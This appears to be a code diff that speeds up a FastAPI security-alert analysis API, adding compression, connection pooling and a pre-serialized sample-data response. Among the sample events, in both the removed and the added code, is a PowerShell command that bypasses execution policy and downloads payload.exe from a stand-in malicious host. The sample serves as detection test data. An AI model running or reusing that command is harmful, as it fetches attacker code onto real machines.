@@ -5,8 +5,12 @@ Security Analysis API
 
 from fastapi import FastAPI, HTTPException, BackgroundTasks
 from fastapi.middleware.cors import CORSMiddleware
+from fastapi.middleware.gzip import GZipMiddleware
+from fastapi.responses import Response
 from pydantic import BaseModel
 from typing import List, Dict, Any, Optional
+import httpx
+import json
 import logging
 import asyncio
 from datetime import datetime
@@ -20,9 +24,11 @@ from src.services.security_analysis_service import create_security_analysis_serv
 
 # 请求模型定义
 class SecurityEventRequest(BaseModel):
+    # log_data/metadata按不透明负载原样透传，避免Pydantic对任意大的
+    # 日志字典做逐键校验和深拷贝
     event_type: str = "security_alert"
-    log_data: Dict[str, Any]
-    metadata: Optional[Dict[str, Any]] = None
+    log_data: Any
+    metadata: Optional[Any] = None
 
 
 class BatchEventsRequest(BaseModel):
@@ -39,11 +45,18 @@ class ConfigUpdateRequest(BaseModel):
     config: Dict[str, Any]
 
 
+try:
+    import orjson  # noqa: F401
+    from fastapi.responses import ORJSONResponse as _DefaultResponseClass
+except ImportError:  # orjson为可选加速依赖
+    from fastapi.responses import JSONResponse as _DefaultResponseClass
+
 # 创建FastAPI应用
 app = FastAPI(
     title="Security Alert Analysis System",
     description="安全告警日志研判系统API",
-    version="1.0.0"
+    version="1.0.0",
+    default_response_class=_DefaultResponseClass
 )
 
 # 添加CORS中间件
@@ -55,6 +68,9 @@ app.add_middleware(
     allow_headers=["*"],
 )
 
+# 压缩批量分析结果等重复键很多的大响应体
+app.add_middleware(GZipMiddleware, minimum_size=1024, compresslevel=5)
+
 # 配置日志
 logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger(__name__)
@@ -98,10 +114,24 @@ async def startup_event():
         }
     }
     
-    analysis_service = create_security_analysis_service(config)
+    # 全局共享的异步HTTP连接池，供各响应执行器复用长连接
+    app.state.http = httpx.AsyncClient(
+        limits=httpx.Limits(max_connections=100, max_keepalive_connections=50),
+        timeout=10.0
+    )
+
+    analysis_service = create_security_analysis_service(config, http_client=app.state.http)
+    await analysis_service.async_init()
     logger.info("Security Analysis Service started successfully")
 
 
+@app.on_event("shutdown")
+async def shutdown_event():
+    """应用关闭事件"""
+    if getattr(app.state, 'http', None) is not None:
+        await app.state.http.aclose()
+
+
 @app.get("/")
 async def root():
     """根路径"""
@@ -157,24 +187,14 @@ async def analyze_batch_events(request: BatchEventsRequest):
         raise HTTPException(status_code=503, detail="Service not initialized")
     
     try:
-        # 转换请求数据
-        events_data = [
-            {
-                "event_type": event.event_type,
-                "log_data": event.log_data,
-                "metadata": event.metadata
-            }
-            for event in request.events
-        ]
-        
         results = await analysis_service.batch_analyze_events(
-            [event["log_data"] for event in events_data]
+            [event.log_data for event in request.events]
         )
-        
+
         return {
             "success": True,
             "data": {
-                "total_events": len(request.events),
+                "total_events": len(results),
                 "results": results
             },
             "timestamp": datetime.now().isoformat()
@@ -301,73 +321,85 @@ async def get_current_configuration():
         raise HTTPException(status_code=500, detail=str(e))
 
 
-# 测试用的示例数据生成接口
+# 测试用示例数据：响应体在导入时预序列化，请求时只替换时间戳占位符
+_SAMPLE_DATA_TEMPLATE = json.dumps({
+    "success": True,
+    "data": {
+        "sample_events": [
+            {
+                "event_type": "network_anomaly",
+                "log_data": {
+                    "src_ip": "192.168.1.100",
+                    "dst_ip": "10.0.0.50",
+                    "port": 443,
+                    "username": "john.doe",
+                    "timestamp": "__TS__",
+                    "bytes_transferred": 1048576,
+                    "connection_duration": 300,
+                    "is_anomaly": True,
+                    "anomaly_type": "unusual_data_transfer"
+                }
+            },
+            {
+                "event_type": "file_access",
+                "log_data": {
+                    "username": "admin",
+                    "file_path": "/etc/passwd",
+                    "action": "read",
+                    "timestamp": "__TS__",
+                    "process_name": "cat",
+                    "is_system_file": True,
+                    "access_granted": True
+                }
+            },
+            {
+                "event_type": "process_execution",
+                "log_data": {
+                    "process_name": "powershell.exe",
+                    "command_line": "powershell.exe -ExecutionPolicy bypass -Command (New-Object System.Net.WebClient).DownloadFile('http://malicious.com/payload.exe', 'C:\\temp\\payload.exe')",
+                    "parent_process": "explorer.exe",
+                    "username": "user1",
+                    "timestamp": "__TS__",
+                    "is_anomaly": True,
+                    "anomaly_type": "suspicious_command"
+                }
+            },
+            {
+                "event_type": "login_event",
+                "log_data": {
+                    "username": "service_account",
+                    "src_ip": "103.45.67.89",
+                    "destination": "ad-server.company.com",
+                    "login_method": "NTLM",
+                    "timestamp": "__TS__",
+                    "success": True,
+                    "is_anomaly": True,
+                    "anomaly_type": "unusual_login_location"
+                }
+            }
+        ],
+        "description": "These are sample security events for testing the analysis system"
+    }
+}, separators=(',', ':')).encode()
+
+
 @app.get("/api/v1/test/sample-data")
 async def generate_sample_data():
     """生成测试用的示例数据"""
-    sample_events = [
-        {
-            "event_type": "network_anomaly",
-            "log_data": {
-                "src_ip": "192.168.1.100",
-                "dst_ip": "10.0.0.50",
-                "port": 443,
-                "username": "john.doe",
-                "timestamp": datetime.now().isoformat(),
-                "bytes_transferred": 1048576,
-                "connection_duration": 300,
-                "is_anomaly": True,
-                "anomaly_type": "unusual_data_transfer"
-            }
-        },
-        {
-            "event_type": "file_access",
-            "log_data": {
-                "username": "admin",
-                "file_path": "/etc/passwd",
-                "action": "read",
-                "timestamp": datetime.now().isoformat(),
-                "process_name": "cat",
-                "is_system_file": True,
-                "access_granted": True
-            }
-        },
-        {
-            "event_type": "process_execution",
-            "log_data": {
-                "process_name": "powershell.exe",
-                "command_line": "powershell.exe -ExecutionPolicy bypass -Command (New-Object System.Net.WebClient).DownloadFile('http://malicious.com/payload.exe', 'C:\\temp\\payload.exe')",
-                "parent_process": "explorer.exe",
-                "username": "user1",
-                "timestamp": datetime.now().isoformat(),
-                "is_anomaly": True,
-                "anomaly_type": "suspicious_command"
-            }
-        },
-        {
-            "event_type": "login_event",
-            "log_data": {
-                "username": "service_account",
-                "src_ip": "103.45.67.89",
-                "destination": "ad-server.company.com",
-                "login_method": "NTLM",
-                "timestamp": datetime.now().isoformat(),
-                "success": True,
-                "is_anomaly": True,
-                "anomaly_type": "unusual_login_location"
-            }
-        }
-    ]
-    
-    return {
-        "success": True,
-        "data": {
-            "sample_events": sample_events,
-            "description": "These are sample security events for testing the analysis system"
-        }
-    }
+    ts = datetime.now().isoformat().encode()
+    return Response(_SAMPLE_DATA_TEMPLATE.replace(b"__TS__", ts),
+                    media_type="application/json")
 
 
 if __name__ == "__main__":
     import uvicorn
-    uvicorn.run(app, host="0.0.0.0", port=8000)
\ No newline at end of file
+    # 多worker要求以导入字符串传入应用；analysis_service在startup_event中
+    # 创建，每个worker各自初始化一份，互不共享状态
+    uvicorn.run(
+        "src.apis.security_api:app",
+        host="0.0.0.0",
+        port=8000,
+        workers=int(os.environ.get("API_WORKERS", os.cpu_count() or 1)),
+        loop="uvloop",
+        http="httptools"
+    )
\ No newline at end of file